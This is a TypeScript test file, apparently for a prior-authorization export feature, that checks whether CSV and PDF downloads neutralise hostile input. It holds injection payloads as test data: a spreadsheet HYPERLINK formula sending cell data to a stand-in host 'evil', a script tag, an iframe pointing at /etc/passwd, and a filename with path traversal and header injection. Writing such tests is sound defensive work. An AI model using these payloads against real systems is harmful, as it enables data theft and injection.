import { expect, test } from 'vitest'
import { drugs } from '#reference/drugs.ts'
import type { TestApi } from '#testing/api.ts'
import { startFixtureApi } from '#testing/fixture-api.ts'
import { idOf } from '#testing/fixtures.ts'
import { priorAuths } from './contract.ts'

const claim = idOf('AAA AAA1 claim 1')
const naproxen = drugs.find((one) => one.name.startsWith('Naproxen') && one.brandFlag === 'G')!

/** An api with a prior authorization whose drug and reason are these texts. */
async function withTexts(drug: string, reason: string): Promise<TestApi> {
  const api = await startFixtureApi()
  const adjuster = await api.signIn('adj.aaa')
  const { status } = await adjuster.ask(priorAuths.save, {
    stratusClaimId: claim,
    ndc: naproxen.ndc,
    drugLevel: 14,
    oneTimeFill: false,
    reasonId: 1,
  })
  expect(status).toBe(200)
  await api.db.query(`update prior_auth set drug_name = $1, reason_desc = $2 where mc = 'AAA'`, [drug, reason])
  return api
}
const fileOf = async (api: TestApi, type: string) =>
  (await api.signIn('adj.aaa')).ask(priorAuths.export, { type, claimId: claim, timeZone: 'UTC' })

test.each(['=HYPERLINK("http://evil?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1', '＝1'])(
  'A spreadsheet takes no text of a prior authorization for a formula: %j',
  async (text) => {
    const { text: csv } = await fileOf(await withTexts(text, text), 'csv')
    expect(csv.split(`"'${text.replaceAll('"', '""')}"`).length).toBe(3)
  },
)

test('A patient’s hostile name becomes an ordinary file name, and stays text in CSV and PDF', async () => {
  const api = await withTexts('<script>alert(1)</script>', '{{7*7}} <iframe src=file:///etc/passwd>')
  await api.db.query(
    `update claimant t set first_name = $1, last_name = $2 from wc_claim c where c.id = $3 and t.mc = c.mc and t.id = c.claimant_id`,
    ['Łukasz "Bo" ../../x\r\nSet-Cookie: a=b;.exe 🙂\u202egpj', `=1+1${'W'.repeat(150)}`, claim],
  )
  for (const type of ['csv', 'pdf']) {
    const { status, headers, text } = await fileOf(api, type)
    const given = String(headers['content-disposition'])
    const decoded = decodeURIComponent(given.split("filename*=UTF-8''")[1]!)
    expect([status, headers['set-cookie']]).toEqual([200, undefined])
    expect(decoded).toMatch(new RegExp(`^Łukasz[^\\\\/:*?"<>|;\\p{Cc}\\p{Cf}]+_[-\\d]{10}\\.${type}$`, 'u'))
    expect(Buffer.byteLength(decoded)).toBeLessThanOrEqual(150)
    expect(given).toMatch(/^attachment; filename="[\x20-\x7e]+"; /)
    if (type === 'csv') expect(text).toContain('{{7*7}} <iframe src=file:///etc/passwd>')
    else expect(text).not.toMatch(/\/JavaScript|\/Launch|\/URI/)
  }
})
